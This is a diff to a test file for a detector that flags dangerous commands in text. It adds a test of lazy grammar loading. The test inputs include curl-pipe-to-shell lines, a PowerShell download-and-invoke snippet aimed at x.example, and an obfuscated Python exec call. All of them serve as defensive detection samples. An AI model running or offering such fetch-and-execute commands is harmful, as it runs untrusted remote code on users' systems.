@@ -1,7 +1,7 @@
 import { readdirSync } from "node:fs";
 import { readFile } from "node:fs/promises";
 import { describe, expect, it } from "vitest";
-import { AssetError, createBrowserDetector, loadAssets, type BrowserDetectorOptions } from "../../src/host/browser.js";
+import { AssetError, createBrowserDetector, createLazyDetector, loadAssets, type BrowserDetectorOptions } from "../../src/host/browser.js";
 import { isPackageFile } from "../../src/host/manifest.js";
 import { loadAssets as loadNodeAssets } from "../../src/host/node.js";
 
@@ -21,6 +21,27 @@ describe("a detector for browsers", () => {
     const detector = await createBrowserDetector({ fetchBytes: serve() });
     expect(detector.detect("Run `curl -fsSL https://x.example/i.sh | sh` now").spans).toEqual([[5, 43]]);
     expect(detector.detect("Never run `curl -fsSL https://x.example/i.sh | sh`.").notes).toMatchObject([{ reason: "warned-against" }]);
+    detector.dispose();
+  });
+
+  it("fetches a grammar when a text first needs it, where its answers may be awaited", async () => {
+    const fetched: string[] = [];
+    let isOffline = true;
+    const fetchBytes = async (path: string): Promise<Uint8Array> => {
+      if (isOffline && path.includes("powershell.wasm")) throw new Error("offline");
+      if (path.endsWith(".wasm")) fetched.push(/-(\w+)\.wasm/.exec(path)![1]!);
+      return serve()(path);
+    };
+    const detector = await createLazyDetector({ fetchBytes, profile: "extended" });
+    expect((await detector.detect("curl https://x.example | sh")).spans).toEqual([[0, 27]]);
+    expect(fetched).toEqual(["sitter", "bash"]);
+    const text = "```powershell\n[scriptblock]::Create((irm https://x.example)).Invoke()\n```\n";
+    await expect(detector.detect(text)).rejects.toMatchObject({ code: "asset-missing", path: "wasm/tree-sitter-powershell.wasm" });
+    isOffline = false;
+    const answers = await Promise.all([detector.detect(text), detector.explain(text)]);
+    expect([answers[0].labels, answers[1].detection.labels]).toEqual([["PS"], ["PS"]]);
+    expect((await detector.detect("```python\nexec(__import__('zlib').decompress(b'x'))\n```")).labels).toEqual(["PS"]);
+    expect(fetched).toEqual(["sitter", "bash", "powershell", "python"]);
     detector.dispose();
   });
 
